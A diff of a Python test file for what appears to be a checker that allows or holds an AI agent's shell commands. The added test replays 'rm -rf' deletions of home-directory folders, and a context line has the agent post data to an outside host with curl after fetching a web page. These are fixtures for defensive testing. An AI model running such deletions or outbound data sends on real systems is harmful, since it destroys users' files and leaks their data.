@@ -49,6 +49,15 @@ def test_a_file_that_the_agent_wrote_counts(places: Places) -> None:
     assert played(places, asks("tidy up"), run, came(2, "done")) == [("allow", "allow", False)]
 
 
+def test_what_commands_made_in_the_recording_counts(places: Places) -> None:
+    commands = ["mkdir -p ~/box && cp -r ~/notes ~/copy", "ls ~/there", "mkdir -p ~/there", "rm -rf ~/box ~/copy"]
+    commands += ["rm -rf ~/box", "rm -rf ~/there"]
+    events = [asks("tidy up")]
+    for at, command in enumerate(commands, start=1):
+        events += [wants(at, "exec", command=command), came(at, "there" if command.startswith("ls") else "")]
+    assert [verdict for verdict, *_ in played(places, *events)] == ["allow", "allow", "allow", "allow", "hold", "hold"]
+
+
 def test_what_was_read_before_counts(places: Places) -> None:
     fetched = [wants(1, "web_fetch", url="https://docs.example.org/setup"), came(1, ORDER, "web_fetch")]
     sends = wants(2, "exec", command="curl -d status=done https://collect.example.net/in")
